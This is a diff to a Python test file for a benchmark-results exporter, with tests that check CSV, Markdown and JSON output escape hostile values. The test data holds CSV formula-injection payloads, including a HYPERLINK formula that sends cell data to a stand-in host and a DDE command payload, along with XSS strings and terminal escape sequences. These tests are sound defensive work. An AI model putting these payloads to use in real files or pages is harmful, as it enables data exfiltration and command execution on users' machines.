@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import shutil
@@ -88,7 +89,7 @@ def test_markdown_has_units_one_row_per_case_and_escapes_pipes(store):
     rows = [line for line in alpha.splitlines() if line.startswith("| ") and line != header]
     assert len(rows) == 3  # separator + resnet18 + tiny_cnn
     assert "| 11.69 |" in rows[1] and "| 1.814 |" in rows[1]
-    assert "- `tiny_cnn b8 224px cpu fp32` failed: RuntimeError: boom" in alpha
+    assert "- tiny_cnn b8 224px cpu fp32 — failed: RuntimeError: boom" in alpha
     assert "mob\\|net b4 224px cpu fp32" in beta and "| mob\\|net |" in beta
     assert len([line for line in beta.splitlines() if line.startswith("| mob")]) == 1
     every = export(store.read(), "markdown", latest=False).split("## beta")[1]
@@ -188,3 +189,54 @@ def test_cli_exit_2_when_nothing_to_export(store, tmp_path, capsys):
     with pytest.raises(SystemExit) as exc:
         main(["export", "--results", str(store.root), "--format", "xml"])
     assert exc.value.code == 2
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
+            "\r=1+1"]
+
+
+def test_csv_neutralises_formula_text_but_keeps_numbers(tmp_path):
+    store = ResultStore(tmp_path / "results")
+    for i, payload in enumerate(FORMULAS):
+        store.append(make_record(Case("tiny_cnn", batch=i + 1), suite="=1+1", status="failed", error=payload,
+                                 env_hostname=payload, latency_ms_median=-1.5, macs=-7), COLS)
+    rows = list(csv.DictReader(io.StringIO(export(store.read(), "csv"))))
+    assert [r["error"] for r in rows] == ["'" + p for p in FORMULAS[:-1]] + ["\\x0d=1+1"]  # a CR is shown
+    assert {r["env_hostname"] for r in rows} == {r["error"] for r in rows}
+    assert {r["suite"] for r in rows} == {"'=1+1"}
+    assert {r["latency_ms_median"] for r in rows} == {"-1.5"} and {r["macs"] for r in rows} == {"-7"}
+    assert rows[0]["label"] == "tiny_cnn b1 224px cpu fp32"  # plain text untouched
+
+
+def test_csv_shows_control_characters(tmp_path):
+    store = ResultStore(tmp_path / "results")
+    store.append(make_record(Case("tiny_cnn"), status="failed", error="boom \x1b[2J\x07 end\nline 2"), COLS)
+    text = export(store.read(), "csv")
+    assert "\x1b" not in text and "\x07" not in text
+    assert next(csv.DictReader(io.StringIO(text)))["error"] == "boom \\x1b[2J\\x07 end\nline 2"
+
+
+def test_markdown_escapes_html_and_table_breakers_everywhere(tmp_path):
+    store = ResultStore(tmp_path / "results")
+    evil = Case("<img src=x onerror=alert(1)>|x", batch=2)
+    store.append(make_record(evil, suite="<b>s&p</b>", status="failed",
+                             error="<script>alert(1)</script> | a\nsecond line \x1b[31m"), COLS)
+    text = export(store.read(), "markdown")
+    assert "<" not in text and ">" not in text and "\x1b" not in text
+    assert text.startswith("## &lt;b&gt;s&amp;p&lt;/b&gt;\n")
+    row = next(line for line in text.splitlines() if line.startswith("| &lt;img"))
+    assert row.startswith("| &lt;img src=x onerror=alert(1)&gt;\\|x b2 224px cpu fp32 | &lt;img src=x "
+                          "onerror=alert(1)&gt;\\|x | 2 |")
+    assert row.count(" | ") == text.splitlines()[2].count(" | ")  # no extra column
+    assert ("- &lt;img src=x onerror=alert(1)&gt;\\|x b2 224px cpu fp32 — failed: &lt;script&gt;alert(1)"
+            "&lt;/script&gt; \\| a") in text.splitlines()
+
+
+def test_json_escapes_every_control_character_and_reads_back_the_same(tmp_path):
+    store = ResultStore(tmp_path / "results")
+    error = "boom \x1b[6n \x9b6n \x7f \u202eevil\u202c end\nline 2"
+    store.append(make_record(Case("tiny_cnn"), status="failed", error=error), COLS)
+    text = export(store.read(), "json")
+    assert not any(ch in text for ch in "\x1b\x9b\x7f\u202e\u202c")
+    assert "\\u009b6n" in text and "\\u202eevil" in text
+    assert json.loads(text)[0]["error"] == error
